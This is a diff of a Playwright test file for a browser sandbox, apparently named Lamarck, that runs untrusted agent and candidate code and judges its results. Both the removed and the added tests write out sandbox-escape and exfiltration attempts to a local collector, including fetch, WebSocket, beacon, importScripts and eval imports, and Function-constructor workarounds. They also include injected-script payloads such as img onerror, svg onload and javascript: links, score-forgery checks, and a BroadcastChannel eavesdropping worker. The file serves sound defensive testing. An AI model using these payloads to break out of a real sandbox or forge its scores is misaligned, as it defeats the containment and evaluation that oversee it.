@@ -1,134 +1,153 @@
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
+import { ESCAPES } from '../attacks/escapes.js';
+import { startCollector } from '../bin/probe/collector.js';
+import { tryEscapes } from '../bin/probe/escapes.js';
+import { RUNNER } from '../bin/probe/places.js';
+import { tryForgeries } from '../bin/probe/probe.js';
 
-/** Everything that a worker may try, to reach ADDRESS; each attempt by itself, so that one that throws stops no other. */
-const ATTEMPTS = `
-const attempts = [
-  () => fetch('ADDRESS/fetch', { mode: 'no-cors' }),
-  () => fetch('ADDRESS/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
-  () => { const x = new XMLHttpRequest(); x.open('GET', 'ADDRESS/xhr'); x.send(); },
-  () => new WebSocket('ADDRESS/socket'.replace('http', 'ws')),
-  () => new EventSource('ADDRESS/events'),
-  () => navigator.sendBeacon('ADDRESS/beacon', 'x'),
-  () => importScripts('ADDRESS/scripts'),
-  () => new Worker('ADDRESS/worker'),
-  () => new Worker(URL.createObjectURL(new Blob(["fetch('ADDRESS/nested', { mode: 'no-cors' })"]))),
-  () => new Worker(URL.createObjectURL(new Blob(["importScripts('ADDRESS/nested-scripts')"]))),
-  () => new SharedWorker('ADDRESS/shared'),
-  () => new WebTransport('ADDRESS/transport'.replace('http', 'https')),
-  () => { new FontFace('f', 'url(ADDRESS/font)').load(); },
-  () => (0, eval)("import('ADDRESS/import')"),
-  () => caches.open('c').then((cache) => cache.add('ADDRESS/cache')),
-  () => postMessage({ leak: 'ADDRESS' }),
-  () => new BroadcastChannel('lamarck').postMessage('ADDRESS'),
-  () => indexedDB.open('lamarck'),
-];
-for (const attempt of attempts) {
-  try { Promise.resolve(attempt()).catch(() => {}); } catch {}
-}
-`;
+test.setTimeout(600_000);
 
-/** The same, by a way round what a realm may have taken out of its globals. */
-const ROUND_ABOUT = (code: string) => `
-for (const make of [() => Function, () => (() => {}).constructor, () => (async () => {}).constructor, () => [].at.constructor]) {
-  try { make()(${JSON.stringify(code)})(); } catch {}
-}
-`;
-
-let collector: Server;
-let address: string;
-let hits: string[];
-test.beforeEach(async () => {
-  hits = [];
-  collector = createServer((request, answer) => {
-    hits.push(request.url ?? '');
-    answer.setHeader('Content-Type', 'text/html').end('<title>collector</title>');
-  });
-  collector.on('upgrade', (request, socket) => {
-    hits.push(request.url ?? '');
-    socket.destroy();
-  });
-  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
-  address = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
-});
-test.afterEach(() => {
-  collector.closeAllConnections();
-  collector.close();
-});
-
-const code = () => ATTEMPTS.replaceAll('ADDRESS', address);
-
-/** An attempt that was let through arrives within milliseconds; the control shows that it does. */
-const settle = (page: Page) => page.waitForTimeout(1_500);
+/** The names in a window but for those of its frames, which are numbers. */
+const names = (): string[] =>
+  Reflect.ownKeys(window)
+    .map(String)
+    .filter((name) => !/^\d+$/.test(name))
+    .sort();
 
 async function automation(page: Page): Promise<void> {
   await page.goto('/?automation');
   await expect(page.locator('html')).toHaveAttribute('data-ready', 'true');
 }
 
-test('control: in a worker of an ordinary page the same attempts arrive', async ({ page }) => {
-  await page.goto(`${address}/control`);
-  await page.evaluate((text) => void new Worker(URL.createObjectURL(new Blob([text]))), code());
-  await expect.poll(() => hits.length).toBeGreaterThan(8);
-  for (const path of ['/fetch', '/xhr', '/socket', '/scripts', '/nested', '/import']) {
-    await expect.poll(() => hits, path).toContain(path);
-  }
-});
-
-test('an agent on the bench reaches nothing', async ({ page }) => {
-  await automation(page);
-  const agent = `export function solve() { ${code()} ${ROUND_ABOUT(code())} return null; }`;
-  const result = await page.evaluate(async (agent) => {
-    const loop = await window.lamarck.loop(1);
-    return loop.propose({
-      agent: { 'agent.js': agent },
-      format: 'script',
-      program: { 'program/a.js': 'const one = 1;' },
-      visible: { 'visible/a.test.js': 'console.assert(one === 1)' },
-      ...{ instruction: '', testRuns: 5, seed: '1', tried: [] },
-    });
-  }, agent);
-  expect(result.proposal).toBeNull();
-  await settle(page);
-  expect(hits).toEqual([]);
-});
-
-test('a candidate on the bench and in the judge reaches nothing', async ({ page }) => {
-  await automation(page);
-  const program = `${code()} ${ROUND_ABOUT(code())} const one = 1;`;
-  const verdict = await page.evaluate(async (program) => {
-    const loop = await window.lamarck.loop(1);
-    const files = { 'program/a.js': program };
-    const visible = { 'visible/a.test.js': 'console.assert(one === 1)' };
-    await loop.propose({
-      agent: {
-        'agent.js': 'export async function solve(program, tools) { await tools.run(); return null; }',
-      },
-      format: 'script',
-      program: files,
-      visible,
-      ...{ instruction: '', testRuns: 5, seed: '1', tried: [] },
-    });
-    return loop.judge({ format: 'script', files: { ...files, ...visible }, tests: ['visible/a.test.js'] });
-  }, program);
-  expect(verdict).toMatchObject({ ending: 'finished', tests: [{ outcome: 'passed' }] });
-  await settle(page);
-  expect(hits).toEqual([]);
-});
-
-test('the sandbox’s policy alone holds, without any global taken away', async ({ page }) => {
-  await automation(page);
+/** The frame in which the loop's own workers run. */
+async function sandboxFrame(page: Page) {
   await page.evaluate(() => window.lamarck.loop(1).then(() => undefined));
   const frame = page.frames().find((one) => one.url().endsWith('sandbox.html'));
   if (!frame) throw new Error('there is no sandbox frame');
-  expect(await frame.evaluate(() => self.origin)).toBe('null');
-  await frame.evaluate((text) => void new Worker(URL.createObjectURL(new Blob([text]))), code());
-  await frame.evaluate((at) => void fetch(`${at}/window`, { mode: 'no-cors' }).catch(() => {}), address);
-  // A window may navigate; the page's own policy pins where to.
-  await frame.evaluate((at) => void (location.href = `${at}/navigation?secret`), address);
-  await settle(page);
-  expect(hits).toEqual([]);
+  return frame;
+}
+
+test('no way out, of all that are known, from any place where foreign code runs', async ({ page }) => {
+  await automation(page);
+  const { attempts, controls } = await tryEscapes(page);
+  expect(attempts.length).toBeGreaterThan(4 * 60);
+  for (const { name, place, said, escaped } of attempts) {
+    await test.step(`${place}: ${name} → ${said}`, () => expect(escaped, `${place}: ${name}`).toBe(false));
+  }
+  for (const { name, works, said, expected } of controls) {
+    await test.step(`without protection: ${name} → ${works ? 'works' : said}`, () =>
+      expect(works, `${name} without protection: ${said}`).toBe(expected));
+  }
+});
+
+test('no score can be forged in the browser either', async ({ page }) => {
+  await automation(page);
+  for (const { name, forged, message } of await tryForgeries(page)) {
+    await test.step(name, () => expect(forged, message ?? '').toBe(false));
+  }
+});
+
+test('the frame’s window runs no foreign code, whatever message or worker sends it', async ({ page }) => {
+  await automation(page);
+  const collector = await startCollector();
+  const frame = await sandboxFrame(page);
+  const at = collector.addressOf('window');
+  const before = await frame.evaluate(names);
+  const attack = `fetch('${at}', { mode: 'no-cors' }); window.marked = true; document.title = 'marked'; location.href = '${at}'`;
+  // The messages that the frame takes, and some that it does not, with code in every place.
+  await page.evaluate((attack) => {
+    const target = document.querySelector('iframe')?.contentWindow;
+    const sources = { bench: attack, judge: attack, wasm: attack };
+    for (const type of ['connect', 'spawn', 'source', 'eval', 'message', 'terminate', '__proto__', attack]) {
+      target?.postMessage({ type, sources, text: attack, code: attack, kind: attack, id: attack }, '*');
+      target?.postMessage(attack, '*');
+    }
+  }, attack);
+  // A worker may speak to the window that made it, and fail in words of its own.
+  await frame.evaluate((attack) => {
+    const script = `postMessage(${JSON.stringify(attack)}); postMessage({ type: 'spawn', text: ${JSON.stringify(attack)} }); throw new Error(${JSON.stringify(attack)});`;
+    new Worker(URL.createObjectURL(new Blob([script]))).onerror = (event) => event.preventDefault();
+  }, attack);
+  // The policy lets no other script into the window than the frame's own.
+  await frame.evaluate((attack) => {
+    document.body.append(Object.assign(document.createElement('script'), { textContent: attack }));
+    const markup = `<img src="data:," onerror="${attack.replaceAll('"', '')}"><svg onload="${attack.replaceAll('"', '')}"></svg>`;
+    document.body.insertAdjacentHTML('beforeend', markup);
+    const scripted = document.createElement('iframe');
+    scripted.srcdoc = `<script>parent.${attack}</script>`;
+    document.body.append(scripted);
+    document.body.append(
+      Object.assign(document.createElement('a'), { href: `javascript:${attack}`, id: 'attack' }),
+    );
+    document.getElementById('attack')?.click();
+  }, attack);
+  await page.waitForTimeout(1_500);
+  expect(await frame.evaluate(names)).toEqual(before);
+  expect(await frame.evaluate(() => [document.title, location.pathname])).toEqual([
+    "Lamarck's sandbox",
+    '/sandbox.html',
+  ]);
+  // Even code that ran there could not take the window elsewhere: the page pins its frames.
+  await frame.evaluate((at) => void (location.href = at), at);
+  await page.waitForTimeout(1_500);
+  expect([...collector.arrived]).toEqual([]);
+  collector.close();
+});
+
+test('a page that embeds the frame without its sandbox gets no worker of the site', async ({ page }) => {
+  await automation(page);
+  const answered = await page.evaluate(async (runner) => {
+    const frame = document.createElement('iframe');
+    frame.src = new URL('sandbox.html', document.baseURI).href;
+    await new Promise((resolve) => {
+      frame.onload = resolve;
+      document.body.append(frame);
+    });
+    const { port1, port2 } = new MessageChannel();
+    const sources = { bench: runner, judge: runner, wasm: new ArrayBuffer(0) };
+    frame.contentWindow?.postMessage({ type: 'connect', sources }, '*', [port2]);
+    return new Promise((resolve) => {
+      port1.onmessage = () => resolve(true);
+      setTimeout(resolve, 1_000, false);
+    });
+  }, RUNNER);
+  expect(answered).toBe(false);
+});
+
+test('who broke out of a bench overhears nothing of the others', async ({ page }) => {
+  await automation(page);
+  const frame = await sandboxFrame(page);
+  const heard = await frame.evaluate(() => {
+    const spy = `
+      const heard = [];
+      for (const name of ['lamarck', 'bench', 'judge', 'loop', 'sandbox', 'message', '']) new BroadcastChannel(name).onmessage = ({ data }) => heard.push(data);
+      for (const type of ['message', 'messageerror', 'storage', 'connect', 'rtctransform']) addEventListener(type, (event) => { if (event.data !== 'tell') heard.push(type); });
+      addEventListener('message', ({ data }) => { if (data === 'tell') postMessage(heard); });`;
+    const worker = new Worker(URL.createObjectURL(new Blob([spy])));
+    Reflect.set(window, 'spy', worker);
+    return null;
+  });
+  expect(heard).toBeNull();
+  const verdict = await page.evaluate(async () => {
+    const loop = await window.lamarck.loop(1);
+    const files = { 'program/a.js': 'const secret = 4711;', 'visible/a.test.js': 'console.assert(secret)' };
+    return loop.judge({ format: 'script', files, tests: ['visible/a.test.js'] });
+  });
+  expect(verdict.ending).toBe('finished');
+  const told = await frame.evaluate(
+    () =>
+      new Promise((resolve) => {
+        const spy = Reflect.get(window, 'spy') as Worker;
+        spy.onmessage = ({ data }) => resolve(data);
+        spy.postMessage('tell');
+      }),
+  );
+  expect(told).toEqual([]);
+});
+
+test('the list is long enough', () => {
+  expect(new Set(ESCAPES.map(({ name }) => name)).size).toBe(ESCAPES.length);
+  expect(ESCAPES.length).toBeGreaterThanOrEqual(60);
 });
 
 test('a hung agent and a hung candidate are noticed, and work goes on', async ({ page }) => {
